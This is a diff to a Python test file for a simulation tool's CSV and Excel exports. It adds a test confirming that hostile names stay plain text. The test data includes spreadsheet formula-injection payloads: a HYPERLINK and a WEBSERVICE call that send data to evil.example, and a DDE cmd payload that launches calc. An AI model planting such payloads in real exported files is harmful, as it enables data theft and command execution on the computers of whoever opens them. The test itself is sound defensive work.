@@ -95,15 +95,85 @@ def test_run_csv_and_xlsx(small_file, tmp_path):
     args = ["run", str(small_file), "--csv", str(csv_path), "--xlsx", str(xlsx_path)]
     assert main(args + ["--quiet", "--workers", "1", "--replications", "2"]) == 0
     lines = csv_path.read_text(encoding="utf-8").splitlines()
-    assert lines[0] == "section,variant,kind,id,metric,mean,ci95_low,ci95_high"
-    assert any(
-        line.startswith("difference_vs_baseline,more_gps,service,gp,mean_wait,") for line in lines
+    meta = [line for line in lines if line.startswith("# ")]
+    assert "# scenario,Small test" in meta and "# seed,7" in meta and "# replications,2" in meta
+    assert "# warm_up,20.0" in meta and any(line.startswith("# date,") for line in meta)
+    assert any(line.startswith("# version,") for line in meta)
+    header = lines[len(meta)]
+    assert header == (
+        "section,variant,variant_name,kind,id,name,service,service_name,metric,mean,"
+        "ci95_low,ci95_high,display"
     )
+    assert any(
+        line.startswith("difference_vs_baseline,more_gps,More GPs,service,gp,GP practice,,,"
+                        "mean_wait,")
+        for line in lines
+    )  # fmt: skip
+    assert any(",cohort_service,adults,Adults,gp,GP practice,mean_wait," in line for line in lines)
+    assert any(",policy_cost,more_gps,More GPs,,,policy_cost,1000.0," in line for line in lines)
     from openpyxl import load_workbook
 
     wb = load_workbook(xlsx_path)
-    assert wb.sheetnames == ["Results", "Differences vs baseline", "About"]
-    assert wb["Results"].max_row > 10
+    assert wb.sheetnames == [
+        "Services", "Cohorts", "Equality view", "Comparisons", "Costs", "Metadata"
+    ]  # fmt: skip
+    assert wb["Services"].max_row > 10
+    meta_rows = {r[0]: r[1] for r in wb["Metadata"].iter_rows(values_only=True)}
+    assert meta_rows["scenario"] == "Small test" and meta_rows["seed"] == 7
+    services = list(wb["Services"].iter_rows(values_only=True))
+    wait = next(r for r in services if r[4] == "gp" and r[8] == "mean_wait")
+    assert wait[5] == "GP practice" and wait[12].endswith(")")  # display in natural units
+    assert any(u in wait[12] for u in (" min", " h", " days", " s"))
+
+
+def test_exports_keep_hostile_names_as_text(tmp_path):
+    """§9: a name such as =HYPERLINK(...) must never become a live formula."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "=WEBSERVICE(\"http://evil.example\")",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    doc = json.loads(json.dumps(SMALL))
+    doc["name"] = hostile[0]
+    doc["services"][0]["name"] = hostile[1]
+    doc["services"][1]["name"] = hostile[2]
+    doc["cohorts"][0]["name"] = hostile[3]
+    doc["policies"][0]["name"] = hostile[4]
+    doc["variants"] = [
+        {"id": "baseline", "name": hostile[5], "policies": []},
+        {"id": "more_gps", "name": hostile[6], "policies": ["more_gps"]},
+        {"id": "again", "name": hostile[7], "policies": ["more_gps"]},
+    ]
+    p = tmp_path / "hostile.mission.json"
+    p.write_text(json.dumps(doc), encoding="utf-8")
+    xlsx_path, csv_path = tmp_path / "r.xlsx", tmp_path / "r.csv"
+    args = ["run", str(p), "--xlsx", str(xlsx_path), "--csv", str(csv_path), "--quiet"]
+    assert main(args + ["--workers", "1", "--replications", "2"]) == 0
+    wb = load_workbook(xlsx_path)
+    seen = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value in hostile:
+                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
+                    seen.add(cell.value)
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    assert seen == set(hostile)
+    # CSV: every such text cell starts with a single quote (OWASP), numbers stay numbers
+    cells = [c for row in csv.reader(csv_path.open(encoding="utf-8", newline="")) for c in row]
+    for text in hostile:
+        assert "'" + text in cells
+        assert text not in cells
+    assert any(c.startswith("-") and float(c) < 0 for c in cells if c[:1] == "-")
 
 
 def test_overrides_and_variant_selection(small_file, tmp_path):
